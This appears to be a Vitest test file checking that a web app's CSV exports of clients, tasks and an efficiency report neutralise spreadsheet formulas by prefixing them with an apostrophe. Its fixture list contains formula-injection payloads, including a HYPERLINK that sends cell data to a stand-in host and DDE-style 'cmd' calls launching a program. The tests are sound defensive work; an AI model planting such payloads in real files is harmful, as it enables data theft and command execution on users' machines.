import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { GET as listClients, POST as createClient } from '@/app/api/web/clients/route';
import { GET as readTask } from '@/app/api/web/tasks/[id]/route';
import { clientsCsvText } from '@/components/clients/clients-csv';
import type { CellFormat } from '@/components/tasks/list/columns';
import { tasksCsvText } from '@/components/tasks/list/csv-export';
import { efficiencyCsvText } from '@/components/reports/efficiency/report-csv';
import type { ClientView } from '@/lib/contract/clients';
import type { EfficiencyRow } from '@/lib/contract/efficiency-report';
import type { TaskView } from '@/lib/contract/tasks';
import { callJson, seedTask, taskCompany, type TaskCompany } from '../tasks/helpers';

let company: TaskCompany;

beforeAll(async () => {
  company = await taskCompany();
});

/** Texts a user may save that a spreadsheet would run: a link that sends data away, a command, a sum. */
const formulas = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\'/C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

/** The exported file's cells as a spreadsheet reads them. */
const cellsOf = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter: ',' }).data.flat();

/** No cell starts with what makes a formula; each saved text is there, behind an apostrophe. */
function expectEscaped(text: string, saved: readonly string[]) {
  const cells = cellsOf(text);
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  for (const value of saved) expect(cells).toContain(`'${value}`);
}

const format: CellFormat = {
  columnLabel: (key) => key,
  taskStatus: (statusId) => `status ${statusId}`,
  billingStatus: (billingStatusId) => `billing ${billingStatusId}`,
  date: (isoDate) => isoDate,
  instant: (iso) => iso,
  time: (hhmm) => hhmm,
  minutes: (minutes) => String(minutes),
};

describe('CSV exports escape cells a spreadsheet would run as formulas', () => {
  it('clients: a client saved as "=HYPERLINK(...)" and the like comes out as text', async () => {
    // Names are trimmed when saved, so the tab and carriage-return cases cannot be client names.
    const names = formulas.slice(0, 4);
    for (const [index, displayName] of names.entries()) {
      const saved = await callJson(createClient, {
        method: 'POST',
        cookie: company.cookie,
        json: { displayName, defaultContact: { name: names[(index + 1) % names.length] } },
      });
      expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    }
    const { body: clients } = await callJson<ClientView[]>(listClients, { cookie: company.cookie });
    const stored = clients.map((client) => client.displayName);
    expectEscaped(clientsCsvText(clients), stored.filter((name) => /^[=+\-@\t\r]/.test(name)));
  });

  it('tasks: a task titled "=HYPERLINK(...)" comes out as text in every shown column', async () => {
    const tasks: TaskView[] = [];
    for (const title of formulas) {
      const id = await seedTask(company.tenantId, { typeId: company.types.survey, title, description: '=1+1' });
      tasks.push((await callJson<TaskView>(readTask, { params: { id }, cookie: company.cookie })).body);
    }
    const text = tasksCsvText(tasks, ['id', 'title', 'description', 'type'], [], format, { minutesHeader: (label) => label });
    expectEscaped(text, tasks.map((task) => task.title).filter((title) => /^[=+\-@\t\r]/.test(title)));
  });

  it('the efficiency report: task titles and client names come out as text, minutes stay numbers', () => {
    const row = (title: string, client: string) =>
      ({
        task: { referenceNumber: 7, title, client: { displayName: client } },
        assignees: [{ name: '=Mario', surname: 'Rossi' }],
        startDate: null,
        endDate: '2026-11-26T10:00:00Z',
        estimate: 60,
        actual: -30,
        difference: -90,
        efficiency: 50,
        totalEstimate: 60,
        totalActual: 30,
        workingHours: 480,
      }) as unknown as EfficiencyRow;
    const text = efficiencyCsvText([row(formulas[0], formulas[3])], {
      header: ['Ref', 'Title', 'Assignees', 'Client', 'Start', 'End', 'Estimate', 'Actual', 'Difference', 'Efficiency'],
      totalEstimate: 'Total estimate',
      totalActual: 'Total actual',
      workingHours: 'Working hours',
      instant: (iso) => iso,
    });
    expectEscaped(text.replace(/,-30,-90,/, ',,,'), [formulas[0], formulas[3], '=Mario Rossi']);
    expect(cellsOf(text)).toContain('-30');
  });
});
